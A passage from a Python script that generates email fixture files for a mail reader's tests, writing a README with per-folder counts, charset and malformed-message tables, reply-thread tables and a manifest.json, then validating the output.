             "under this folder, this README and `manifest.json`, then validates the result (`--check` validates only).\n")
    L.append("`manifest.json` lists, per file, what a mail reader must show: the decoded subject (or, where a "
             "fallback decoding is expected, a subject prefix), body snippets, and whether a character-set notice is "
             "expected. The tests open every file through the mail layer and check it against this list.\n")
    L.append("Used to seed the demo mailboxes and by the automated tests. All messages are RFC 5322 with CRLF line "
             "endings (`tests/Fixtures/.gitattributes` marks `*.eml` as `-text` so git never rewrites them); some "
             "contain raw 8-bit bytes on purpose. All domains are reserved example domains "
             "(`example.test`, `*.example`, `example.org/net`).\n")
    L.append("## Layout and seeding conventions\n")
    L.append("* `Mail/<folder>/<file>.eml` → APPEND into IMAP folder `<folder>` of **alice@example.test**. Nested "
             "folders use `/` in the path (`Projects/Website` = folder `Website` under `Projects`; translate `/` to "
             "the server's hierarchy separator). `Projects` itself contains no messages, only the two subfolders.")
    L.append("* `Mail/_bob/<folder>/<file>.eml` → folder `<folder>` of **bob@example.test**. Every Bob subject starts "
             "with `[Bob] `, and no message of Alice contains `[Bob]` in its subject, so tests can assert that users "
             "never see each other's mail.")
    L.append("* Flags come from the file name only: a name containing `.unread.` is seeded **without** `\\Seen`; "
             "every other message is seeded with `\\Seen`. A name containing `.flagged.` adds `\\Flagged`. Both "
             "markers can be combined (`x.unread.flagged.eml`).")
    L.append(f"* Rule \"the newest {NEWEST_UNREAD} INBOX messages are unread\" is already baked into the file "
             f"names (they carry `.unread.`), so the seeder needs no date logic. On top of that a few older "
             "generated messages and some specials are unread; Bob's newest 4 INBOX messages are unread.")
    L.append("* INTERNALDATE: use the `Date:` header. Only `INBOX/malformed-missing-date.eml` has none; use "
             "`2026-09-02T10:00:00+01:00` for it.")
    L.append("* Every file has a unique `Message-ID`; tests can locate messages by Message-ID or by the exact "
             "subjects listed below (each special subject matches exactly one message, also as a case-insensitive "
             "substring search, except thread subjects, which match the whole thread).")
    L.append("* Dates span 2025-05-20 … 2026-11-19 (corpus end 2026-11-20); Sent holds only mail from alice.\n")
    L.append("## Counts\n")
    L.append("| Folder (owner) | Messages | Bytes |")
    L.append("| --- | ---: | ---: |")
    for folder in sorted(counts):
        owner = "bob" if folder.startswith("_bob") else "alice"
        L.append(f"| `{folder}` ({owner}) | {counts[folder]} | {sizes[folder]:,} |")
    L.append(f"| **total** | **{len(fixtures)}** | **{total:,}** |\n")
    L.append(f"Unread: {len(unread)} files, flagged: {len(flagged)} files.\n")

    def table(kind: str, title: str, intro: str) -> None:
        items = sorted([f for f in fixtures if f.kind == kind], key=lambda f: f.relpath)
        L.append(f"## {title}\n")
        if intro:
            L.append(intro + "\n")
        for f in items:
            L.append(f"### `{f.relpath}`\n")
            L.append(f"* Subject (decoded): `{f.subject}`")
            L.append(f"* From: {md_escape(f.sender)}")
            L.append(f"* To: {md_escape(f.to)}")
            L.append(f"* Message-ID: `{f.msgid}`")
            if f.date:
                L.append(f"* Date: `{fmt_date(f.date)}`")
            if f.parts_desc:
                L.append(f"* Structure: `{f.parts_desc}`")
            L.append(f"* Exercises: {md_escape(f.notes)}")
            if f.expect:
                L.append("* Expected decoded body snippets: " + "; ".join(f"`{s}`" for s in f.expect))
            flags = [x for x, on in (("unread", f.unread), ("flagged", f.flagged)) if on]
            L.append(f"* Flags: {', '.join(flags) if flags else 'seen'}\n")

    table("special", "Special fixtures (alice)", "All in `INBOX`, recipient alice@example.test unless stated.")
    # charset summary for tests
    L.append("### Charset fixtures — expected decoded values\n")
    L.append("| File | Charset / CTE | Decoded Subject | Decoded From name |")
    L.append("| --- | --- | --- | --- |")
    for stem, cs, name in [("charset-iso-8859-1-qp", "ISO-8859-1 / quoted-printable", "François Dubois"),
                           ("charset-shift-jis", "Shift_JIS / 8bit", "山田 太郎"),
                           ("charset-koi8-r", "KOI8-R / 8bit", "Ольга Смирнова"),
                           ("charset-windows-1252-smart-quotes", "windows-1252 / quoted-printable", "Liam Smith"),
                           ("utf8-emoji", "UTF-8 / 8bit", "Ngozi Okafor")]:
        f = next(x for x in fixtures if x.stem == stem)
        L.append(f"| `{f.relpath}` | {cs} | `{f.subject}` | `{name}` |")
    L.append("")
    L.append("## Reply threads\n")
    L.append("`In-Reply-To` = parent's Message-ID, `References` = parent's References + parent's Message-ID. "
             "Replies quote the parent with `> ` (nested quotes become `>>`). Messages by alice live in `Sent`.\n")
    threads: dict[str, list[Fixture]] = {}
    for f in fixtures:
        t = getattr(f, "_thread", None)
        if t:
            threads.setdefault(t[1], []).append(f)
    for name, items in threads.items():
        L.append(f"### {name} ({len(items)} messages)\n")
        L.append("| # | File | Subject | From | Parent | Message-ID |")
        L.append("| --- | --- | --- | --- | --- | --- |")
        for f in items:
            t = f._thread
            L.append(f"| {t[2] + 1} | `{f.relpath}` | `{f.subject}` | {md_escape(f.sender)} | "
                     f"{'—' if t[3] is None else t[3] + 1} | `{f.msgid}` |")
        L.append("")
    L.append("Notes: thread *Q4 roadmap review* branches (message 4, from Bob, replies to message 2, not 3; "
             "message 5 replies to 4). Thread *Übergabe der Schlüssel* has a Q-encoded subject with a literal "
             "`Re: ` / `AW: ` prefix outside the encoded-word (German Outlook style `AW:`). Bob appears in To/Cc of "
             "the Q4 thread, but only alice's copies are in the corpus. The generator also creates 12 two-message "
             "threads: replies in `Sent` (`gen-*-sent-reply.eml`) to generated INBOX messages, and `[dev]` mailing-list "
             "follow-ups.\n")
    table("malformed", "Malformed fixtures (alice INBOX)",
          "Validation skips the defect check for files whose name starts with `malformed-`. Python's `email` "
          "parser (policy=default) reports these defects (or exceptions while decoding) for them: " + "; ".join(
              f"`{f.filename}`: {sorted(set(MALFORMED_DEFECTS.get(f.filename, []))) or 'none (semantic fault only)'}"
              for f in sorted([x for x in fixtures if x.kind == 'malformed'], key=lambda x: x.filename)) + ".")
    table("charset", "Charset fixtures (alice, folder `Charsets`)",
          "Character sets that .NET or MimeKit cannot decode out of the box (UTF-7 and its aliases), unknown, empty or "
          "malformed charset names, and East Asian code pages. None of them may raise an error in a reader; those marked "
          "in `manifest.json` with `charset_notice` must show a notice that the text may be wrong.")
    L.append("## Generated bulk mail\n")
    L.append("`gen-YYYYMMDD-NNN-<category>[.unread][.flagged].eml` (and `proj-YYYYMMDD-<slug>.eml` in `Projects/*`): work mail between colleagues (plain and "
             "Outlook-style HTML, Cc lists, CSV/PDF attachments, some addressed To: bob with alice in Cc), `[dev]` "
             "mailing-list posts with List-* headers and follow-ups, forge/CI notifications, newsletters "
             "(HTML with remote images), shop/parcel mail, calendar invitations (text/calendar `invite.ics`), "
             "personal mail in 12 languages (de, fr, es, ja, ru, el, ar, zh, pl, da, pt, en) with small JPEG photos, "
             "and service mail (bank, security, HR, travel). Display names include non-ASCII names in Latin, "
             "Cyrillic, Greek, CJK and Arabic script (RFC 2047 B and Q encoded) and a quoted `\"Chen, Wei\"`. "
             "Body encodings vary between 7bit, 8bit, quoted-printable and base64.\n")
    cat_counts: dict[str, int] = {}
    for f in fixtures:
        if f.kind in ("generated", "bob"):
            cat_counts[f"{f.folder}:{f.category}"] = cat_counts.get(f"{f.folder}:{f.category}", 0) + 1
    L.append("| Folder:category | Count |")
    L.append("| --- | ---: |")
    for k in sorted(cat_counts):
        L.append(f"| `{k}` | {cat_counts[k]} |")
    L.append("")
    L.append("## Unread and flagged files\n")
    L.append("Unread: " + ", ".join(f"`{p}`" for p in unread) + "\n")
    L.append("Flagged: " + ", ".join(f"`{p}`" for p in flagged) + "\n")
    (OUT / "README.md").write_text("\n".join(L), encoding="utf-8")


MALFORMED_DEFECTS: dict[str, list] = {}


def manifest(fixtures: list[Fixture]) -> str:
    """What a reader must show for each file, machine-readable for the tests (Mail/manifest.json)."""
    entries = {}
    for f in sorted(fixtures, key=lambda x: x.relpath):
        entries[f.relpath] = {
            "subject": f.subject if f.check_subject and not f.reader_subject_prefix else None,
            "subject_prefix": f.reader_subject_prefix or None,
            "expect": list(f.expect) + list(f.reader_expect),
            "charset_notice": f.charset_notice,
        }
    return json.dumps(entries, ensure_ascii=False, indent=1, sort_keys=True) + "\n"


# --------------------------------------------------------------------------- main


def build() -> list[Fixture]:
    gen = Gen(SEED)
    fixtures = generate_bulk(gen) + special_fixtures() + thread_fixtures() + malformed_fixtures() + charset_fixtures()
    # newest N INBOX messages (by Date) are unread
    inbox = sorted([f for f in fixtures if f.folder == "INBOX" and f.date], key=lambda f: f.date)
    for f in inbox[-NEWEST_UNREAD:]:
        f.unread = True
    return fixtures


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--check", action="store_true", help="only validate the existing files")
    args = ap.parse_args()
    fixtures = build()
    if not args.check:
        OUT.mkdir(parents=True, exist_ok=True)
        for old in OUT.rglob("*.eml"):
            old.unlink()
        for d in sorted((p for p in OUT.rglob("*") if p.is_dir()), key=lambda p: -len(p.parts)):
            if not any(d.iterdir()):
                d.rmdir()
        names = set()
        for f in fixtures:
            assert f.relpath not in names, f.relpath
            names.add(f.relpath)
            path = OUT / f.relpath
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(f.raw)
    for f in fixtures:
        if f.kind == "malformed":
            _, defects, errors = parse_and_collect(f.raw)
            MALFORMED_DEFECTS[f.filename] = defects + [e.split(":")[0] for e in errors]
    if not args.check:
        write_readme(fixtures)
        (OUT / "manifest.json").write_text(manifest(fixtures), encoding="utf-8")
    else:
        if (OUT / "manifest.json").read_text(encoding="utf-8") != manifest(fixtures):
            print("manifest.json is stale (rerun the generator)")
            return 1
        on_disk = {p.relative_to(OUT).as_posix() for p in OUT.rglob("*.eml")}
        expected = {f.relpath for f in fixtures}
        if on_disk != expected:
            print("files on disk differ from generator output:", sorted(on_disk ^ expected)[:20])
            return 1
        stale = [f.relpath for f in fixtures if (OUT / f.relpath).read_bytes() != f.raw]
        if stale:
            print("stale files (rerun the generator):", stale[:20])
            return 1
    problems = validate(OUT, fixtures)
    counts: dict[str, int] = {}
    for f in fixtures:
        counts[f.folder] = counts.get(f.folder, 0) + 1
    total = sum((OUT / f.relpath).stat().st_size for f in fixtures)
    for folder in sorted(counts):
        print(f"{folder:20s} {counts[folder]:4d}")
    print(f"{'total':20s} {len(fixtures):4d} messages, {total:,} bytes")
    for k, v in sorted(MALFORMED_DEFECTS.items()):
        print(f"  malformed {k}: {v}")
    if problems:
        print("VALIDATION FAILED:")
        for p in problems:
            print("  " + p)
        return 1
    print("validation OK")
    return 0


if __name__ == "__main__":
    sys.exit(main())
